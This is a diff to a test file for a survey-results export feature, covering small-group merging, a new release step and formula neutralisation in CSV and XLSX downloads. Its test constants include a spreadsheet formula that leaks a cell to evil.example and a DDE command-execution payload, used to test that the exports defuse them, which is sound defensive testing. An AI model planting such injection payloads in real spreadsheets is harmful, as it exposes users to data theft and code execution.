@@ -21,7 +21,7 @@ from cjgscan.exports.tables import answer_folding
 from cjgscan.lib.spreadsheet import FORMULA_STARTS, safe_cell
 from cjgscan.rounds.models import Response, Round
 from tests.base import BaseTestCase
-from tests.factories import make_response, make_round
+from tests.factories import make_response, make_round, release, unrelease
 
 EVIL_COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'
 EVIL_GROUP = "+cmd|' /C calc'!A0"
@@ -56,6 +56,9 @@ def number(text: Any, delimiter: str = ";") -> float | None:
     return float(text.replace(",", ".") if delimiter == ";" else text)
 
 
+TOGETHER = "Middelgrote groep + Kleine groep (samen)"  # the small group is shown with the next-smallest one
+
+
 class ExportTestCase(BaseTestCase):
     @classmethod
     def setUpTestData(cls) -> None:
@@ -83,6 +86,7 @@ class ExportTestCase(BaseTestCase):
             )
         make_response(cls.round, cls.tiny, {"S1.K1": "v2"}, comments={"S5": "Herkenbaar commentaar"})
         make_response(cls.round, cls.tiny, {"S1.K1": "v3"}, submitted=False)  # not sent: never counts
+        release(cls.round)
 
     def url(self, round_: Round | None = None, **params: str) -> str:
         round_ = round_ or self.round
@@ -149,11 +153,10 @@ class FigureExportTests(ExportTestCase):
         for file_format in ("csv", "xlsx"):
             content = self.download("cijfers", file_format)
             text = content.decode("utf-8", "replace") if file_format == "csv" else str(parse_xlsx(content))
-            self.assertNotIn("Kleine groep", text)
-            self.assertNotIn("Middelgrote groep", text)  # it protects the small one: merged with it
+            self.assertIn("Middelgrote groep + Kleine groep", text)  # it protects the small one: shown with it
             rows = parse_csv(content) if file_format == "csv" else parse_xlsx(content)
             groups = {row[3]: number(row[4]) for row in rows[1:]}
-            self.assertEqual(groups, {"Alle respondenten": 12, "'" + EVIL_GROUP: 6, "Overig (samengevoegd)": 6})
+            self.assertEqual(groups, {"Alle respondenten": 12, "'" + EVIL_GROUP: 6, TOGETHER: 6})
             # Everything minus every shown group is exactly the merged column, which has the minimum or more.
             self.assertTrue(all(n is not None and n >= self.round.min_group_size for n in groups.values()))
             for row in rows[1:]:
@@ -163,7 +166,9 @@ class FigureExportTests(ExportTestCase):
         self.assertEqual([c.key for c in results.columns][-1], OTHER)
 
     def test_nothing_but_headings_below_the_minimum(self) -> None:
+        unrelease(self.round)
         Round.objects.filter(pk=self.round.pk).update(min_group_size=20)
+        self.assertFalse(release(Round.objects.get(pk=self.round.pk)).accepted)
         self.client.force_login(self.alice)
         for kind in ("cijfers", "antwoorden"):
             for file_format in ("csv", "xlsx"):
@@ -198,6 +203,7 @@ class FigureExportTests(ExportTestCase):
                 counts[(kind, file_format)] = len(before.captured_queries)
         for _n in range(30):
             make_response(self.round, self.big, {"S2.K1": "v3", "S3.K1": "v2"}, comments={"S2": "Meer"})
+        release(self.round)
         for (kind, file_format), expected in counts.items():
             with self.subTest(kind=kind, file_format=file_format), self.assertNumQueries(expected):
                 self.download(kind, file_format)
@@ -217,7 +223,8 @@ class AnswerExportTests(ExportTestCase):
         self.client.force_login(self.alice)
         header, *rows = self.table("antwoorden", file_format, delimiter)
         self.assertEqual(
-            header, [nl("Respondent"), nl("Group"), nl("Code"), nl("Value"), nl("Answer code"), nl("Comment")]
+            header,
+            [nl(t) for t in ("Respondent", "Release", "Group", "Code", "Value", "Answer code", "Comment")],
         )
         return rows
 
@@ -229,7 +236,7 @@ class AnswerExportTests(ExportTestCase):
             with self.subTest(file_format=file_format):
                 rows = self.answer_rows(file_format, delimiter)
                 counted: dict[tuple[str, str], Counter[Any]] = defaultdict(Counter)
-                for _respondent, group, code, value, option, _comment in rows:
+                for _respondent, _release, group, code, value, option, _comment in rows:
                     if option:  # an answer, not a comment
                         bucket = int(number(value, delimiter)) if value not in ("", None) else option  # type: ignore[arg-type]
                         counted[(code, columns[group])][bucket] += 1
@@ -264,23 +271,24 @@ class AnswerExportTests(ExportTestCase):
         for file_format in ("csv", "xlsx"):
             rows = self.answer_rows(file_format)
             text = str(rows)
-            self.assertNotIn("Kleine groep", text)
-            self.assertNotIn("Middelgrote groep", text)
+            self.assertNotIn("'Kleine groep'", text)  # never a label of its own
             self.assertNotIn("Herkenbaar commentaar", text)
-            self.assertNotIn("Middel", text)  # comments only from groups shown on their own, as on the dashboard
+            comments = [row[-1] for row in rows if row[-1]]
+            self.assertNotIn("Middel", comments)  # comments only from groups shown on their own, as on the dashboard
             per_group: dict[str, set[Any]] = defaultdict(set)
             for row in rows:
-                per_group[row[1]].add(row[0])
-            self.assertEqual(
-                {g: len(r) for g, r in per_group.items()}, {"'" + EVIL_GROUP: 6, "Overig (samengevoegd)": 6}
-            )
+                per_group[row[2]].add(row[0])
+            self.assertEqual({g: len(r) for g, r in per_group.items()}, {"'" + EVIL_GROUP: 6, TOGETHER: 6})
 
     def test_the_folding_is_the_dashboards(self) -> None:
         for minimum in (3, 5, 6, 7, 12, 13):
+            unrelease(self.round)
             Round.objects.filter(pk=self.round.pk).update(min_group_size=minimum)
             round_ = Round.objects.get(pk=self.round.pk)
-            decision = round_results(round_).suppression
-            self.assertEqual(answer_folding(round_).suppression, decision, minimum)
+            release(round_)
+            shown = round_results(round_).release
+            self.assertEqual(answer_folding(round_).view.group_cells, shown.group_cells, minimum)
+            self.assertEqual(answer_folding(round_).visible, shown.visible, minimum)
 
     def test_formulas_are_neutralised_in_every_format(self) -> None:
         for file_format, delimiter in (("csv", ";"), ("csv", ","), ("xlsx", ";")):
